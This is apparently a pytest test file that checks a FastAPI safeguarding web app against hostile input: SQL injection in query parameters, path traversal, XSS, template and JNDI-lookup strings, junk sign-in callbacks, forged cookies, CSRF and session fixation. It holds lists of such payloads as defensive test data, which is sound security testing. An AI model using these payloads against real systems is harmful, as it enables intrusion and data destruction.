"""The web app against hostile input: every GET route with hostile paths and query strings,
sign-in answers that are junk, oversized and malformed forms, SQL injection in every query
parameter, CSRF and session-fixation attempts, and path tricks in export names.

The routes come from the app's own route table, so pages added later are covered: none may
answer 500 (or leak an internal error) for anything a browser can send.
"""

from __future__ import annotations

import os
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from fastapi import FastAPI
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from remote_guard.fakegraph.harness import scenario_clock
from remote_guard.fakegraph.server import FakeTenantServer
from remote_guard.findings.models import FindingRow
from remote_guard.store.db import transaction
from remote_guard.web.security import PLAIN_COOKIE
from tests import databases
from tests.web.conftest import (
    WebTenant,
    authorize_answer,
    build_web_tenant,
    csrf_token,
    federation,
    sign_in,
)

ROOT = Path(__file__).resolve().parents[2]

SQL_INJECTION = [
    "' OR '1'='1",
    "'; DROP TABLE findings; --",
    '" OR 1=1 --',
    "1) UNION SELECT key, message FROM findings --",
    "x' AND (SELECT count(*) FROM sqlite_master) > 0 --",
    "%' OR rule_id LIKE '%",
    "1; UPDATE findings SET status='pass'",
]
HOSTILE = [
    *SQL_INJECTION,
    "\x00",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "<script>alert(1)</script>",
    "{{7*7}}{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "A" * 3000,
    "\U0001f600" * 40,
    "\u202egnp.exe",
    "-1",
    "99999999999999999999999999",
    "NaN",
    "%",
    "[]",
    "null",
]
QUERY_NAMES = ["q", "search", "filter", "sort", "status", "rule", "page", "next", "school"]


@dataclass(frozen=True)
class RouteInfo:
    methods: frozenset[str]
    path: str
    query: tuple[str, ...]


def route_table(app: FastAPI) -> list[RouteInfo]:
    """Every API route of the app with its full path and query parameters, including those of
    included routers (FastAPI may keep an included router whole in ``app.routes``)."""
    found: list[RouteInfo] = []

    def walk(routes: list[Any], prefix: str) -> None:
        for route in routes:
            if isinstance(route, APIRoute):
                found.append(
                    RouteInfo(
                        frozenset(route.methods or ()),
                        prefix + route.path,
                        tuple(p.name for p in route.dependant.query_params),
                    )
                )
                continue
            inner = getattr(route, "original_router", None)
            if inner is not None:
                context = getattr(route, "include_context", None)
                walk(list(inner.routes), prefix + str(getattr(context, "prefix", "") or ""))

    walk(list(app.routes), "")
    return sorted(found, key=lambda r: (r.path, sorted(r.methods)))


@pytest.fixture(autouse=True)
def _no_ca_bundle_override(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("REQUESTS_CA_BUNDLE", raising=False)
    monkeypatch.delenv("CURL_CA_BUNDLE", raising=False)


@pytest.fixture(scope="module")
def tenant(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebTenant]:
    tmp = tmp_path_factory.mktemp("web-hostile")
    scenario = federation()
    with (
        databases.fresh_database(tmp),
        FakeTenantServer(
            scenario, state_dir=tmp / "tenant", clock=scenario_clock(scenario)
        ) as server,
    ):
        yield build_web_tenant(server, scenario, tmp)


@pytest.fixture
def dsl(tenant: WebTenant) -> Iterator[TestClient]:
    """A browser signed in as the DSL (who may see the most pages)."""
    with tenant.client() as client:
        sign_in(client, tenant, "dsl")
        yield client


def _routes(tmp_path_factory: pytest.TempPathFactory | None = None) -> list[RouteInfo]:
    scenario = federation()
    import tempfile

    with (
        tempfile.TemporaryDirectory() as folder,
        FakeTenantServer(
            scenario, state_dir=Path(folder) / "tenant", clock=scenario_clock(scenario)
        ) as server,
    ):
        # Built at import, so on SQLite whichever the pass: the routes do not depend on it.
        database_url = f"sqlite:///{Path(folder) / 'routes.db'}"
        app = build_web_tenant(server, scenario, Path(folder), database_url=database_url).app
        return route_table(app)


# Every test here but the first signs in or posts, and so stores web sessions in the database.
pytestmark = pytest.mark.database

ROUTES = _routes()
GET_ROUTES = [r for r in ROUTES if "GET" in r.methods and not r.path.startswith("/probe/boom")]
POST_ROUTES = [r for r in ROUTES if "POST" in r.methods]


def _fill(path: str, value: str) -> str:
    return re.sub(r"\{[^}]+\}", quote(value, safe=""), path)


def _finding_count(tenant: WebTenant) -> int:
    with tenant.db() as session:
        return int(session.scalar(select(func.count()).select_from(FindingRow)) or 0)


def test_the_route_table_is_found() -> None:
    paths = {r.path for r in ROUTES}
    assert {"/healthz", "/readyz", "/metrics", "/api/v1/me", "/sign-in", "/auth/callback"} <= paths


@pytest.mark.parametrize("route", GET_ROUTES, ids=lambda r: r.path)
def test_hostile_paths_and_query_strings_never_give_500(
    route: RouteInfo, tenant: WebTenant, dsl: TestClient
) -> None:
    before = _finding_count(tenant)
    failures: list[str] = []
    with tenant.client() as anonymous:
        for value in HOSTILE:
            names = sorted({*route.query, *QUERY_NAMES})
            url = _fill(route.path, value)
            for client, who in ((anonymous, "anonymous"), (dsl, "dsl")):
                answer = client.get(url, params=dict.fromkeys(names, value), follow_redirects=False)
                # /readyz answers 503 by design while no poll has run.
                allowed = answer.status_code == 503 and route.path == "/readyz"
                if answer.status_code >= 500 and not allowed:
                    failures.append(f"{who} {url[:80]} ?{value[:30]!r}: {answer.status_code}")
                assert "Traceback" not in answer.text
            if dsl.get("/api/v1/me").status_code == 401:
                sign_in(dsl, tenant, "dsl")  # /sign-in itself ends the session it replaces
    assert failures == []
    assert _finding_count(tenant) == before, "an injection changed the findings"


def test_sql_injection_in_api_filters_is_data(tenant: WebTenant, dsl: TestClient) -> None:
    """Every query parameter the OpenAPI document lists, given injection strings: the API
    answers a normal status and the tables are all still there."""
    spec = dsl.get("/api/v1/openapi.json").json()
    for path, operations in spec["paths"].items():
        for method, operation in operations.items():
            if method != "get":
                continue
            names = [p["name"] for p in operation.get("parameters", []) if p["in"] == "query"]
            for value in SQL_INJECTION:
                answer = dsl.get(_fill(path, value), params=dict.fromkeys(names, value))
                assert answer.status_code < 500, (path, value, answer.status_code)
    with tenant.db() as session:
        assert session.scalar(select(func.count()).select_from(FindingRow)) is not None


@pytest.mark.parametrize(
    "query",
    [
        {"state": "x", "code": "y"},
        {"state": "", "code": ""},
        {"state": "' OR 1=1 --", "code": "<script>"},
        {"state": "A" * 5000, "code": "B" * 5000},
        {"error": "access_denied", "error_description": "<script>alert(1)</script>"},
        {"code": "only-a-code"},
        {"state": "\x00\x01\x02"},
        {},
    ],
)
def test_junk_sign_in_answers_are_refused_cleanly(tenant: WebTenant, query: dict[str, str]) -> None:
    """The sign-in return address with junk, with and without a sign-in under way."""
    with tenant.client() as fresh, tenant.client() as started:
        started.get("/sign-in", follow_redirects=False)
        for client in (fresh, started):
            answer = client.get("/auth/callback", params=query, follow_redirects=False)
            assert 400 <= answer.status_code < 500, answer.status_code
            assert "<script>" not in answer.text
            assert client.get("/api/v1/me").status_code == 401


@pytest.mark.parametrize("headers", [{"Accept": "x" * 6000}, {"X-Forwarded-For": "' OR 1=1"}])
def test_me_with_hostile_headers(dsl: TestClient, headers: dict[str, str]) -> None:
    answer = dsl.get("/api/v1/me", headers=headers, params={"x": "' OR '1'='1"})
    assert answer.status_code == 200


@pytest.mark.parametrize(
    "cookie",
    [
        "x" * 4000,
        "not.a.signed.value",
        "a" * 43 + "." + "b" * 43,
        '"quoted"; Path=/',
    ],
)
def test_hostile_session_cookies_are_ignored(tenant: WebTenant, cookie: str) -> None:
    with tenant.client() as client:
        client.cookies.set(PLAIN_COOKIE, cookie)
        assert client.get("/api/v1/me").status_code == 401
        assert client.get("/").status_code < 500


# --- forms --------------------------------------------------------------------------------------


@pytest.mark.parametrize("route", POST_ROUTES, ids=lambda r: r.path)
def test_oversized_and_malformed_forms_never_give_500(route: RouteInfo, tenant: WebTenant) -> None:
    """With the right CSRF token, a form with a 2 MB field, 3000 fields, a broken multipart
    body, bytes that are not UTF-8, or JSON where a form belongs: a 4xx or a normal answer."""
    url = _fill(route.path, "x")
    with tenant.client() as client:
        sign_in(client, tenant, "dsl")
        token = csrf_token(client)
        bodies: list[tuple[dict[str, str], bytes | dict[str, str]]] = [
            ({}, {"csrf_token": token, "note": "N" * 2_000_000}),
            ({}, {"csrf_token": token, **{f"f{i}": "v" for i in range(3000)}}),
            (
                {"content-type": "multipart/form-data; boundary=XYZ"},
                b'--XYZ\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n'
                + token.encode()
                + b"\r\n--WRONG--\r\n",
            ),
            (
                {"content-type": "application/x-www-form-urlencoded"},
                b"csrf_token=" + token.encode() + b"&note=%ff%fe%00\xff\xfe",
            ),
            ({"content-type": "application/json", "X-CSRF-Token": token}, b'{"note": [1, 2'),
            ({"content-type": "text/plain"}, b"csrf_token=" + token.encode()),
        ]
        for headers, body in bodies:
            if isinstance(body, dict):
                answer = client.post(url, data=body, headers=headers, follow_redirects=False)
            else:
                answer = client.post(url, content=body, headers=headers, follow_redirects=False)
            assert answer.status_code < 500, (url, headers, answer.status_code)
            assert "Traceback" not in answer.text
            if client.get("/api/v1/me").status_code == 401:
                sign_in(client, tenant, "dsl")  # a sign-out form did its job: sign in again
                token = csrf_token(client)


# --- CSRF and session fixation ------------------------------------------------------------------


def test_a_csrf_token_works_only_in_its_own_session(tenant: WebTenant) -> None:
    with tenant.client() as alice, tenant.client() as bob:
        sign_in(alice, tenant, "t.oak")
        sign_in(bob, tenant, "t.elm")
        stolen = csrf_token(alice)

        refused = bob.post("/sign-out", data={"csrf_token": stolen}, follow_redirects=False)

        assert refused.status_code == 403
        assert bob.get("/api/v1/me").status_code == 200


def test_a_csrf_token_in_the_query_string_is_not_accepted(tenant: WebTenant) -> None:
    with tenant.client() as client:
        sign_in(client, tenant, "t.oak")
        token = csrf_token(client)

        refused = client.post(f"/sign-out?csrf_token={token}", follow_redirects=False)

        assert refused.status_code == 403
        assert client.get("/api/v1/me").status_code == 200


def test_a_cross_site_post_without_origin_but_with_a_foreign_referer_is_refused(
    tenant: WebTenant,
) -> None:
    with tenant.client() as client:
        sign_in(client, tenant, "t.oak")
        token = csrf_token(client)
        answer = client.post(
            "/sign-out",
            data={"csrf_token": token},
            headers={"Origin": "https://evil.example", "Referer": "https://evil.example/x"},
            follow_redirects=False,
        )
        assert answer.status_code == 403
        assert client.get("/api/v1/me").status_code == 200


def test_an_attackers_pre_sign_in_session_planted_in_a_victims_browser_stays_useless(
    tenant: WebTenant,
) -> None:
    """Session fixation with a cookie the app itself issued: the attacker starts a sign-in,
    plants that cookie in the victim's browser; the victim signs in. The victim ends in a new
    session, and the attacker's cookie is still signed out."""
    with tenant.client() as attacker, tenant.client() as victim:
        attacker.get("/sign-in", follow_redirects=False)
        planted = attacker.cookies.get(PLAIN_COOKIE)
        assert planted
        # Where the app's own cookie lives (host-only), so the planted one is replaced by it.
        victim.cookies.set(PLAIN_COOKIE, planted, domain="127.0.0.1")

        sign_in(victim, tenant, "dsl")

        assert victim.cookies.get(PLAIN_COOKIE) != planted
        assert victim.get("/api/v1/me").json()["name"] == "Dev Safeguard"
        assert attacker.get("/api/v1/me").status_code == 401


def test_an_attackers_sign_in_answer_opened_by_a_victim_is_refused(tenant: WebTenant) -> None:
    """Login CSRF: the attacker completes their own sign-in at Entra and sends the victim the
    return link. The victim's browser (with a sign-in of its own under way) refuses it."""
    with tenant.client() as attacker, tenant.client() as victim:
        start = attacker.get("/sign-in", follow_redirects=False)
        answer = authorize_answer(tenant, start.headers["location"], "t.oak")
        victim.get("/sign-in", follow_redirects=False)

        opened = victim.get(answer.headers["location"], follow_redirects=False)

        assert opened.status_code == 400
        assert victim.get("/api/v1/me").status_code == 401


# --- export names ---------------------------------------------------------------------------------


def _cli(args: list[str], cwd: Path, monkeypatch: pytest.MonkeyPatch) -> int:
    from remote_guard.cli import main

    for name in list(os.environ):
        if name.startswith("REMOTE_GUARD_"):
            monkeypatch.delenv(name)
    monkeypatch.chdir(cwd)
    return main(args)


def test_report_output_is_written_exactly_where_the_operator_says(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The rule: --output is the operator's own choice, taken as given (relative to the
    working folder, absolute, or with ..); the operating system's permissions bound it.
    Nothing in the data chooses a path."""
    work = tmp_path / "work"
    work.mkdir()
    database = databases.database_url(tmp_path)
    common = ["report", "--from", "2026-11-01", "--to", "2026-11-30", "--format", "json"]
    (work / "config").symlink_to(ROOT / "config")

    assert (
        _cli([*common, "--database", database, "--output", "../up/r.json"], work, monkeypatch) == 0
    )
    assert (
        _cli(
            [*common, "--database", database, "--output", str(tmp_path / "abs" / "r.json")],
            work,
            monkeypatch,
        )
        == 0
    )

    assert (tmp_path / "up" / "r.json").is_file()
    assert (tmp_path / "abs" / "r.json").is_file()
    written = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*.json"))
    assert written == ["abs/r.json", "up/r.json"]


def test_subject_access_file_names_come_from_the_person_id_made_safe(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A person id with ../ or a slash cannot leave the chosen folder: the file name keeps only
    letters, digits, dot, dash and underscore."""
    database = databases.database_url(tmp_path)
    exports = tmp_path / "exports"
    person = "../../../tmp/evil/0000-1111"

    code = _cli(
        ["sar", "--person", person, "--output", str(exports), "--database", database],
        tmp_path,
        monkeypatch,
    )

    assert code == 0
    names = sorted(p.name for p in exports.iterdir())
    assert names == [
        "subject-access-.._.._.._tmp_evil_0000-1111.html",
        "subject-access-.._.._.._tmp_evil_0000-1111.json",
    ]
    outside = [p for p in tmp_path.rglob("subject-access-*") if p.parent != exports]
    assert outside == []


# --- NUL characters ----------------------------------------------------------------------------


def test_a_nul_character_in_a_form_is_refused_and_stores_nothing(
    tenant: WebTenant,
) -> None:
    """A NUL in a form's note (PostgreSQL cannot store or even compare one) gets a 400 and no
    note is stored; the same note without it is. (The JSON API refuses one field by field:
    tests/web/test_teacher_api.py.)"""
    from remote_guard.cases.models import CaseNoteRow
    from remote_guard.collect.models import SessionRow

    session_id = "nul-test-session"
    with transaction(tenant.db) as session:
        if session.get(SessionRow, session_id) is None:
            at = tenant.clock()
            session.add(
                SessionRow(
                    id=session_id,
                    kind="meeting",
                    subject="Reading",
                    first_seen_at=at,
                    last_collected_at=at,
                )
            )
    with tenant.db() as session:
        notes_before = session.scalar(select(func.count()).select_from(CaseNoteRow))
    with tenant.client() as client:
        sign_in(client, tenant, "dsl")
        token = csrf_token(client)
        url = f"/dsl/sessions/{session_id}/notes"
        refused = client.post(
            url,
            data={"csrf_token": token, "text": "spoke to\x00 the family"},
            follow_redirects=False,
        )
        with tenant.db() as session:
            notes_after_refusals = session.scalar(select(func.count()).select_from(CaseNoteRow))
        accepted = client.post(
            url, data={"csrf_token": token, "text": "spoke to the family"}, follow_redirects=False
        )

    assert refused.status_code == 400
    assert notes_after_refusals == notes_before
    assert accepted.status_code == 303, accepted.text
    with tenant.db() as session:
        assert session.scalar(select(func.count()).select_from(CaseNoteRow)) == notes_before + 1
